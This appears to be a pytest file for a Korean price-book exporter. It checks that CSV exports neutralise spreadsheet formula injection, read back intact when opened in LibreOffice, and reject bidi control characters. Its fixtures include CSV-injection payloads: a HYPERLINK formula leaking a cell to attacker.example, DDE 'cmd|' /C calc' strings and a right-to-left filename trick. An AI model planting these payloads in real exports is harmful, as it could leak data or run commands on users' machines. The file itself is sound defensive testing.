"""Attack review (issue 14, findings 7 and 12): a price book's text cannot turn into a spreadsheet formula
when its CSV export is opened (checked through LibreOffice), still reads back to the same book, and
cannot carry invisible text-direction controls."""

from __future__ import annotations

import copy
import io
import subprocess
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from kis_estimator.catalog_io import load_catalog
from kis_estimator.documents.lint import soffice_path
from kis_estimator.pricebooks import KINDS, ParsedBook, catalog_rows, read_price_book, render_price_book
from tests.factories import requires_tool

HOSTILE = {
    "series": '=HYPERLINK("http://attacker.example/?leak="&A1,"단가 확인")',
    "spec": "+1+cmd|' /C calc'!A0",
    "line_name": "-2+3",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "quote": "'=already quoted",
    "plain": "'plain apostrophe",
}


def hostile_rows() -> dict[str, list[dict[str, Any]]]:
    """The shipped catalog with formula-looking text in every kind's text columns."""
    rows = copy.deepcopy(catalog_rows(load_catalog()))
    rows["breakers"][0]["series"] = HOSTILE["series"]
    rows["breakers"][1]["series"] = HOSTILE["quote"]
    rows["enclosures"][0]["series"] = HOSTILE["tab"].strip() + " 외함"
    accessory = rows["accessories"][0]
    accessory["spec"], accessory["line_name"], accessory["note"] = (
        HOSTILE["spec"],
        HOSTILE["line_name"],
        HOSTILE["note"],
    )
    rows["accessories"][1]["note"] = HOSTILE["plain"]
    return rows


def csv_files(book: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return {kind: archive.read(f"{kind}.csv") for kind in KINDS}


def test_every_text_cell_that_a_spreadsheet_could_run_is_neutralised_in_the_csv() -> None:
    files = csv_files(render_price_book(hostile_rows(), "zip"))
    text = "\n".join(data.decode("utf-8-sig") for data in files.values())
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t")), line


def test_the_csv_export_reads_back_to_the_same_book_apostrophes_and_all() -> None:
    rows = hostile_rows()
    book = read_price_book("export.zip", render_price_book(rows, "zip"))
    assert isinstance(book, ParsedBook), [str(problem) for problem in book]
    assert book.rows["breakers"][0]["series"] == HOSTILE["series"]
    assert book.rows["breakers"][1]["series"] == HOSTILE["quote"]  # "'=…" comes back as "'=…"
    assert book.rows["accessories"][0]["line_name"] == "-2+3"
    assert book.rows["accessories"][1]["note"] == HOSTILE["plain"]
    again = read_price_book("export.xlsx", render_price_book(book.rows, "xlsx"))
    assert isinstance(again, ParsedBook) and again.sha256 == book.sha256


@requires_tool(soffice_path() is not None, "LibreOffice")
def test_libreoffice_opens_the_csv_export_without_a_single_formula_and_keeps_numbers_numbers() -> None:
    files = csv_files(render_price_book(hostile_rows(), "zip"))
    with tempfile.TemporaryDirectory(prefix="kis-csv-") as work:
        sources = []
        for kind, data in files.items():
            source = Path(work) / f"{kind}.csv"
            source.write_bytes(data)
            sources.append(str(source))
        office = soffice_path()
        assert office is not None
        subprocess.run(
            [office, "--headless", "--norestore", f"-env:UserInstallation={Path(work, 'profile').as_uri()}",
             "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", work, *sources],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
        books = {kind: openpyxl.load_workbook(Path(work) / f"{kind}.xlsx") for kind in KINDS}
    formulas, links, texts = [], [], []
    for kind, book in books.items():
        for row in book.active.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("=")):
                    formulas.append(f"{kind}!{cell.coordinate}: {cell.value!r}")
                if cell.hyperlink is not None:
                    links.append(f"{kind}!{cell.coordinate}")
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert not formulas and not links, (formulas, links)
    assert any("HYPERLINK" in text for text in texts)  # the text is there, as text
    accessories = books["accessories"].active
    header = [cell.value for cell in accessories[1]]
    prices = [row[header.index("price_krw")] for row in accessories.iter_rows(min_row=2, values_only=True)]
    assert prices and all(isinstance(price, int | float) for price in prices if price is not None)


@pytest.mark.parametrize(
    "control", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
)
def test_a_text_cell_with_a_bidi_control_is_refused_with_the_cell_named(control: str) -> None:
    rows = copy.deepcopy(catalog_rows(load_catalog()))
    rows["accessories"][2]["line_name"] = f"명판{control}fdp.exe"
    problems = read_price_book("book.xlsx", render_price_book(rows, "xlsx"))
    assert isinstance(problems, list)
    assert [(p.code, p.source, p.row, p.column) for p in problems] == [
        ("VALUE_BIDI_CONTROL", "accessories", 4, "line_name")
    ]
    assert "U+202A-202E" in problems[0].message
